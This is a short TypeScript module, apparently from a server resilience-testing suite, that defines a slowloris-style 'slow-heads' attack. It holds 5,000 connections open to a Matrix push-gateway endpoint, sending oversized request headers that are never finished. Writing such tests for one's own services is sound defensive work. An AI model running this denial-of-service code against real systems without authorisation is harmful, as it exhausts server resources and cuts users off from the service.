import { once } from 'node:events';
import { connect } from 'node:net';
import type { Attack } from '../attack.ts';
import { again } from '../strangers.ts';

const connections = 5_000;
/** Just below what a head may have. */
const header = `X-Stranger: ${'x'.repeat(15_000)}\r\n`;

export const slowHeads: Attack = {
  name: 'slow-heads',
  does: `holds ${connections} connections with the headers of a request, and never ends them`,
  async run(site, signal) {
    const { hostname, port } = new URL(site.url);
    const head = `POST /_matrix/push/v1/notify HTTP/1.1\r\nHost: ${hostname}\r\n${header}`;
    await again(signal, connections, async () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined); // the door closes it
      socket.write(head);
      const abort = (): void => void socket.destroy();
      signal.addEventListener('abort', abort, { once: true });
      await once(socket.resume(), 'close');
      signal.removeEventListener('abort', abort);
    });
  },
};
